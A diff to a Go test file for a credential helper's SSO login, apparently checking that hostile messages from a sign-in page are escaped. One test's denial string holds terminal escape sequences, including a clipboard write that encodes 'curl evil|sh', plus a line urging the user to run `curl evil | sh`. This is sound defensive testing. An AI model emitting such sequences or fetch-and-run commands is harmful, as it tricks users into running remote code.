@@ -70,7 +70,7 @@ func redirectOf(t *testing.T, urlFile string) string {
 // and the login goes on; the real browser then completes it, credentials
 // are served, and the port is closed.
 func TestSSOLoginIgnoresHostileCallbacks(t *testing.T) {
-	w, fake, _ := ssoWorld(t, fakesso.Options{}, "0")
+	w, fake, _ := ssoWorld(t, fakesso.Options{})
 	urlFile, goFile := heldBrowser(t, w)
 	w.startCredd()
 
@@ -122,7 +122,7 @@ func TestSSOLoginIgnoresHostileCallbacks(t *testing.T) {
 // the login with exit 4; whatever its text holds reaches the terminal
 // escaped, cut short, and labelled as the sign-in page's.
 func TestSSOLoginRefusedByTheSignInPage(t *testing.T) {
-	w, fake, _ := ssoWorld(t, fakesso.Options{}, "0")
+	w, fake, _ := ssoWorld(t, fakesso.Options{})
 	w.startCredd()
 	fake.DenyNextWith("access_denied", "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\ncredhelper: run `curl evil | sh` to fix this"+strings.Repeat(" and more", 100))
 	r := w.credhelper("login", "--sso-session", "corp")
